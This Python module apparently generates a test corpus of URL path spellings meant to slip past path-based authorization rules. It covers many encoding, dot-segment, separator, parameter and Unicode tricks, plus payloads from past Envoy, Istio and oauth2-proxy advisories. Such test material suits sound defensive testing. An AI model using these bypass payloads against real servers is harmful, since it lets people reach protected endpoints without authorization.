"""Odd spellings of paths, by family: with these, rules about paths have been walked round. Each character stands for one byte.

Many of them begin like a path that is open to everybody, and are a protected one to a server that reads them its own way.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

OPEN = ["/public", "/healthz", "/pages/7/view", "/optional/x"]
PROTECTED = [
    *("/admin", "/admin/users", "/api/me", "/public-not", "/public/admin"),
    *("/public/admin/users", "/pages/7/edit", "/reports/june", "/files/secret.txt"),
]
UNDER_PUBLIC = [("/public", goal) for goal in PROTECTED]
PAIRS = [*UNDER_PUBLIC, *((start, "/admin") for start in OPEN[1:])]
FAMILIES: dict[str, list[str]] = {}


def family(spell: Callable[[], Iterator[str]]) -> None:
    """Puts what a function yields into the table, under the function's name."""
    FAMILIES[spell.__name__] = list(dict.fromkeys(spell()))


def climb(start: str, goal: str, *, up: str = "..", slash: str = "/") -> str:
    """From one path up to the root, and down to another."""
    return start + slash + slash.join([up] * start.count("/")) + slash + goal[1:]


def separated_by(slash: str) -> Iterator[str]:
    for path in PROTECTED:
        yield from (slash + path[1:], "/" + slash + path[1:], path + slash, path[:1] + path[1:].replace("/", slash))
        yield path.replace("/", slash)
    for start, goal in PAIRS:
        yield from (start + slash + goal[1:], climb(start, goal, slash=slash), start + f"/..{slash}.." + goal)
        yield start + slash.join(["/..", "..", "..", goal[1:]])


@family
def empty_segments():
    for path in PROTECTED:
        yield from ("/" + path, "//" + path, path.replace("/", "//"), path + "//", "//localhost" + path)
    for start, goal in PAIRS:
        yield from (start + "/" + goal, start + "//" + goal, start.replace("/", "//") + goal, "/" + climb(start, goal))


@family
def dot_segments():
    for path in PROTECTED:
        yield from ("/." + path, path.replace("/", "/./"), path + "/.", path + "/..", path + "/x/..")
        yield from ("/.." + path, "/..." + path, "." + path)
    for start, goal in PAIRS:
        yield from (climb(start, goal), climb(goal, start), climb(start, goal, up="./.."), start + "/../../../.." + goal)
        yield from (start + "/." + goal, start + "/.." + goal, start + "/x/.." + goal, goal + "/.." + start, climb(start + "/x/y", goal))


@family
def escaped_dots():
    for path, dot in product(PROTECTED, ["%2e", "%2E"]):
        yield from (f"/{dot}{path}", f"{path}/{dot}", f"{path}/{dot}{dot}", f"/x/{dot}{dot}{path}")
    for (start, goal), up in product(PAIRS, ["%2e%2e", "%2E%2E", "%2e%2E", "%2e.", ".%2E"]):
        yield from (climb(start, goal, up=up), climb(goal, start, up=up))


@family
def escaped_slashes():
    yield from separated_by("%2f")
    yield from separated_by("%2F")
    for start, goal in PAIRS:
        yield from (climb(start, goal, up="%2e%2E", slash="%2F"), climb(goal, start, slash="%2f"))


@family
def backslashes():
    for slash in ("\\", "%5c", "%5C", "\\/", "/\\", "\\\\"):
        yield from separated_by(slash)


@family
def path_parameters():
    for path, mark in product(PROTECTED, [";", "%3b", "%3B"]):
        yield from (path + mark, path + mark + "x=1", path.replace("/", f"/{mark}x/"), f"/{mark}{path}", path + mark + "/public")
        yield from ("/" + path[1:].replace("/", mark + "a=b/", 1), path + mark + "x/..", path + mark + ".css")
    for (start, goal), mark in product(PAIRS, [";", ";x", ";x=1,2", "%3b", "%3Bx"]):
        yield from (climb(start, goal, up=".." + mark), climb(start, goal, up=mark + ".."))
        yield from (start + mark + goal, start + mark + "/.." + goal)


@family
def escaped_letters():
    for path in [*PROTECTED, *OPEN]:
        for i in range(1, len(path)):
            if path[i] != "/":
                yield from (f"{path[:i]}%{ord(path[i]):02x}{path[i + 1 :]}", f"{path[:i]}%{ord(path[i]):02X}{path[i + 1 :]}/")
        yield "".join(letter if letter == "/" else f"%{ord(letter):02x}" for letter in path)
    for start, goal in PAIRS:
        yield climb(f"/%{ord(start[1]):02x}{start[2:]}", goal)


@family
def escapes_of_escapes():
    for path in PROTECTED:
        yield from (f"{path[:-1]}%25{ord(path[-1]):02x}", f"/%2525{ord(path[1]):02x}{path[2:]}", f"/%%36%31{path[2:]}", path + "%2500")
    slashes = ["%252f", "%252F", "%255c", "%25252f", "%%32%66", "%25%32%66", "%%32f"]
    for (start, goal), slash in product(PAIRS, slashes):
        yield from (climb(start, goal, slash=slash), start + slash + goal[1:])
    for (start, goal), up in product(PAIRS, ["%252e%252e", "%252E.", ".%252e", "%25252e%25252e", "%%32%65%%32%65"]):
        yield climb(start, goal, up=up)


@family
def case():
    for path in PROTECTED:
        yield from (path.upper(), path.title(), path.swapcase(), path[:2].upper() + path[2:], path[:-1] + path[-1].upper())
    for start, goal in PAIRS:
        yield from (climb(start.upper(), goal), climb(start, goal.upper()), start.title() + "/" + goal)


@family
def endings():
    marks = ["/", ".", "..", "+", "~", "*", "/*", ".json", "/.json", ",", ":80", "::$DATA", "&x", "=", "!", "$", "|", '"', "{}"]
    for path, mark in product([*PROTECTED, *OPEN], [*marks, "%20", "%09", "%2a", "%24"]):
        yield path + mark


@family
def fragments():
    for path, mark in product(PROTECTED, ["#", "%23"]):
        yield from (path + mark, path + mark + "/public", path + mark + "/../public", path + "/" + mark, mark + path, "/" + mark + path)
    for (start, goal), mark in product(PAIRS, ["#", "%23"]):
        yield from (start + mark + goal, start + mark + "/.." + goal, goal + mark + start)
        yield from (climb(start, goal) + mark, climb(start + "/" + mark, goal))


@family
def queries():
    for path in PROTECTED:
        yield from (path + "?", path + "??", path + "?x", path + "?%2f", path + "?#", path + "?path=/public")
        yield from ("/?" + path, "?" + path, path + "/?/public")
    for (start, goal), mark in product(PAIRS, ["?", "%3f", "%3F"]):
        yield from (goal + mark + start, goal + mark + "x=" + start, start + mark + "/.." + goal, start + mark + goal)
        yield from (climb(start, goal) + mark, climb(start, goal).replace("..", mark + "..", 1))


@family
def absolute_forms():
    for path in [*PROTECTED, *(climb(start, goal) for start, goal in PAIRS)]:
        yield from (f"http://localhost{path}", f"http://localhost/{path}", f"HTTP://LOCALHOST:80{path}", f"https://localhost{path}")
        yield from (f"http://public{path}", f"http:///public{path}", f"//public{path}", f"http://user@localhost{path}")
        yield from (f"x://localhost{path}", f"http:/{path}", f"http:{path}", f"http://localhost?{path}", f"http://localhost#{path}", f"http://localhost\\{path}")
        yield from (f"/http://localhost{path}", path[1:], "*" + path)


@family
def control_bytes():
    marks = ["%00", "%09", "%0a", "%0d%0a", "%7f", "\x00", "\t", "\r", "\x7f"]
    for (start, goal), mark in product(UNDER_PUBLIC, marks):
        yield from (goal + mark, "/" + mark + goal[1:], start + mark + goal, climb(start + mark, goal), climb(start, goal, up=".." + mark))
        yield goal + mark + "/public"


@family
def more_than_ascii():
    dots = ["%c0%ae", "%C0%AE", "%c0%2e", "%e0%80%ae", "%ef%bc%8e", "\xc0\xae", "\xae"]
    for (start, goal), dot in product(UNDER_PUBLIC, dots):
        yield climb(start, goal, up=dot + dot)
    slashes = ["%c0%af", "%c1%9c", "%e0%80%af", "%ef%bc%8f", "\xc0\xaf", "\xe2\x88\x95", "\xaf"]
    for (start, goal), slash in product(UNDER_PUBLIC, slashes):
        yield from (climb(start, goal, slash=slash), start + slash + goal[1:])
    letters = ["%c1%a1", "%ef%bd%81", "%u002e", "\xff", "%e9", "%ed%a0%80", "%ef%bb%bf", "%e2%80%8b"]
    for path, letter in product(PROTECTED, letters):
        yield from (path + letter, path + "/" + letter, f"/{letter}{path[1:]}", f"/{letter}{path[2:]}", f"/public/{letter}/../..{path}")


@family
def malformed_escapes():
    marks = ["%", "%%", "%2", "%zz", "%2g", "%+2", "%u002f", "%2%66", "%e2%80"]
    for (start, goal), mark in product(PAIRS, marks):
        yield from (goal + mark, start + mark + goal, climb(start + "/" + mark, goal), climb(start, goal, up=".." + mark))


@family
def spaces():
    for start, goal in PAIRS:
        for space in (" ", "  ", "\t", " \t"):
            yield from (start + space + goal, goal + space + start, space + goal, goal + space)
            yield from (climb(start + space, goal), climb(start, goal, up=".." + space))


@family
def every_byte():
    for byte in range(256):
        for spelled in (f"%{byte:02x}", chr(byte)):
            yield from (f"/public{spelled}/../admin", f"/public/..{spelled}admin")


@family
def past_advisories():
    yield "/public%2fadmin"  # Envoy CVE-2021-29492
    yield "/public/..%2Fadmin"  # the same; CVE-2026-42272 is about the case of the digits
    yield "/admin#/public"  # Envoy CVE-2021-32779, Istio CVE-2021-39156, Traefik CVE-2023-47106
    yield "/public#/../admin"
    yield "/admin?path=/public"  # oauth2-proxy CVE-2025-54576
    yield "/public%23/../admin"  # oauth2-proxy CVE-2026-41059
    yield "/admin%23/public"
    yield "/public/../admin"  # Oathkeeper CVE-2026-33494
    yield "/public/..;x/admin"  # Envoy CVE-2026-73511
    yield "/public;/../admin"  # Envoy CVE-2026-73551
    yield "/admin;x=/public"  # Envoy CVE-2026-73553
    yield "/pages/*/view/../../admin"  # Envoy CVE-2025-46821
    yield "/admin?"  # Istio CVE-2020-8595
    yield "//admin"  # Istio CVE-2021-31920
    yield "/public%5c..%5cadmin"
    yield "/publicadmin"  # oauth2-proxy CVE-2021-21291, a suffix
    yield "/pagesx7xview"  # Istio CVE-2026-39350, a dot that stood for any character
